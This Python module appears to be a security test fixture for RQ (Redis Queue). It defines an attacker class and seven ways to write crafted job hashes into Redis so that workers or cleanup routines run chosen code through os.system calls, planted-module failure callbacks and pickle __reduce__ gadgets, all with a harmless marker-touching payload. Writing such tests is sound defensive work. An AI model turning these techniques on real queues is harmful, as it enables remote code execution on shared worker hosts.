"""What somebody with a worker's rights may write into RQ's keys to run code on those who
read them.
"""

from __future__ import annotations

import json
import pickle
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

#: A module in the folder where a worker starts, which RQ puts on its path: a stand-in for
#: os.system, and not only that.
SPY = """
from pathlib import Path

def touch(*_, **__):
    Path(__file__).with_name("marker").touch()

def fail():
    raise ValueError("on purpose")
"""
#: A seat of a run that nobody leads: sat on and left at once.
SEAT = "es-ghost-abcdef-1"


class Reduced:
    """Unpickled, it touches the marker."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.marker,)


class Attacker:
    """Writes where the rights of a worker reach."""

    def __init__(self, client: Any, folder: Path) -> None:
        self.client, self.folder = client, folder
        self.marker = folder / "marker"
        (folder / "spy.py").write_text(SPY)

    def data(self, function: str, *arguments: object) -> bytes:
        return zlib.compress(pickle.dumps((function, None, arguments, {})))

    def pickled(self) -> bytes:
        return pickle.dumps(Reduced(self.marker))

    def write(self, name: str, **fields: Any) -> None:
        """A job's hash, as RQ writes it but for ``fields``."""
        usual = {
            "created_at": "2026-01-01T00:00:00.000000Z",
            "status": "queued",
            "origin": "default",
            "data": self.data("time.time"),
            "timeout": 30,
            "description": "x",
        }
        self.client.hset(f"rq:job:{name}", mapping={**usual, **fields})
        self.client.sadd("rq:queues", "rq:queue:default")

    def enqueue(self, name: str | bytes = SEAT, **fields: Any) -> None:
        if isinstance(name, str):
            self.write(name, **fields)
        self.client.rpush("rq:queue:default", name)


Attack = Callable[[Attacker], None]


def function(one: Attacker) -> None:
    one.enqueue(data=one.data("os.system", f"touch {one.marker}"))


def function_of_no_seat(one: Attacker) -> None:
    one.enqueue("some-job", data=one.data("spy.touch"))


def on_failure(one: Attacker) -> None:
    one.enqueue(data=one.data("spy.fail"), failure_callback_name="spy.touch")


def pickle_in_data(one: Attacker) -> None:
    one.enqueue(data=zlib.compress(one.pickled()))


def pickle_in_hand(one: Attacker) -> None:
    """Popped by a worker that has died since: those who clear up read it."""
    one.write(SEAT, meta=one.pickled())
    one.client.rpush("rq:queue:default:intermediate", SEAT)


def abandoned(one: Attacker) -> None:
    """Begun long ago: RQ's cleaners run the callback of its failure."""
    one.write(SEAT, status="started", failure_callback_name="spy.touch")
    one.client.zadd("rq:wip:default", {f"{SEAT}:0123": 1})


def dependent(one: Attacker) -> None:
    """A job that waits for the seat, which a worker fetches and enqueues when the seat
    has ended.
    """
    one.write("waiting", meta=one.pickled(), dependency_ids=json.dumps([SEAT]))
    one.client.sadd(f"rq:job:{SEAT}:dependents", "waiting")
    one.enqueue()


#: Those that run the attacker's code on a plain worker as it is delivered.
RUN: tuple[Attack, ...] = (
    function,
    function_of_no_seat,
    on_failure,
    pickle_in_data,
    pickle_in_hand,
    abandoned,
    dependent,
)
